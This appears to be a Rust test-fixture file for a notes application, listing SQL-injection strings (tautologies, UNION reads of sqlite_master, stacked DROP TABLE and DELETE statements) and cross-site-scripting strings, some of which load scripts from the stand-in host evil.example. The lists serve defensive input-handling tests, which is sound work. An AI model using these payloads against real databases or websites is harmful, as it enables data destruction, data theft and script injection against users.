//! What people try: text that would mean something to a database or a browser, if it were ever taken for
//! more than text. Typical of each class, written for this test.

/// SQL: tautologies, comments, UNION, stacked statements, functions, encodings, and what is special to LIKE.
pub(crate) const SQL: &[&str] = &[
    // Tautologies and broken quotes.
    "'",
    "''",
    "\"",
    "`",
    "\\",
    "\\'",
    "' OR '1'='1",
    "' OR 1=1 --",
    "\" OR \"\"=\"",
    "') OR ('a'='a",
    "')) OR 1 --",
    "1 OR 1=1",
    "1' OR 'x' IS NOT NULL --",
    "x' OR title LIKE '%",
    "0 OR TRUE",
    "NULL OR 1",
    "' || 'a' = 'a",
    // Comments.
    "admin' --",
    "admin'/*",
    "*/ OR 1=1 /*",
    "1/**/OR/**/1=1",
    "';--",
    "# comment",
    // UNION and subqueries.
    "' UNION SELECT 1,2,3,4,5,6,7,8 --",
    "' UNION ALL SELECT name, sql, 3, 4, 5, 6, 7, 8 FROM sqlite_master --",
    "1 UNION SELECT * FROM notes",
    "(SELECT title FROM notes LIMIT 1)",
    "' AND (SELECT count(*) FROM notes) > 0 --",
    "' AND EXISTS (SELECT 1) AND '1'='1",
    // Stacked.
    "'; DROP TABLE notes; --",
    "1; DELETE FROM notes",
    "'; UPDATE notes SET title = 'owned'; --",
    "x'); INSERT INTO notes (title, text, pinned) VALUES ('in', 'jected', 1); --",
    "'; PRAGMA writable_schema = ON; --",
    "'; ATTACH DATABASE 'other.db' AS other; --",
    "'; VACUUM INTO 'copy.db'; --",
    "'; COMMIT; BEGIN; --",
    // Functions, time, errors.
    "' AND randomblob(100000000) --",
    "' AND load_extension('evil') --",
    "' || sqlite_version() || '",
    "' AND 1=CAST('x' AS INTEGER) --",
    "CASE WHEN 1 THEN 1 ELSE abs(-9223372036854775808) END",
    // Encodings.
    "%27%20OR%201=1%20--",
    "%2527 OR 1=1",
    "\u{2019} OR \u{2019}1\u{2019}=\u{2019}1",
    "\u{ff07} OR 1=1 --",
    "\u{02bc}; DROP TABLE notes; --",
    "char(39) || char(79) || char(82)",
    "x'27204f5220313d31'",
    // Parameters and patterns.
    "?1",
    ":title",
    "@like",
    "$id",
    "%",
    "_",
    "%%%%%%%%",
    "[a-z]*",
    "* MATCH 'a'",
    "GLOB '*'",
];

/// HTML and scripts: elements, attributes broken out of, URLs, encodings, and what parsers differ about.
pub(crate) const XSS: &[&str] = &[
    // Elements.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<img src=\"x\" onerror=\"alert(1)\"",
    "<<img src=x onerror=alert(1)>>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg/onload=&#97;lert(1)>",
    "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>",
    "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<base href=\"//evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example/><button>go</button></form>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    // Out of what surrounds it.
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "\" autofocus onfocus=alert(1) x=\"",
    "` onload=alert(1) `",
    "\"/><svg onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</p></div></li></ul><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--<img src=\"--><img src=x onerror=alert(1)>\">",
    "]]><script>alert(1)</script>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    // URLs.
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/%2e%2e",
    // Encodings.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3e",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u{202e}>tpircs<",
    "<script>alert(1)</script>\u{2028}alert(2)",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= 7 * 7 %>",
];

/// Those that fit a line: titles and tags have no others.
pub(crate) fn one_line(payload: &str) -> bool {
    !payload.contains(char::is_control)
}

#[test]
fn the_lists_are_long_and_without_repetition() {
    for list in [SQL, XSS] {
        assert!(list.len() >= 40);
        assert!(list.iter().enumerate().all(|(at, payload)| !list[..at].contains(payload)));
    }
}
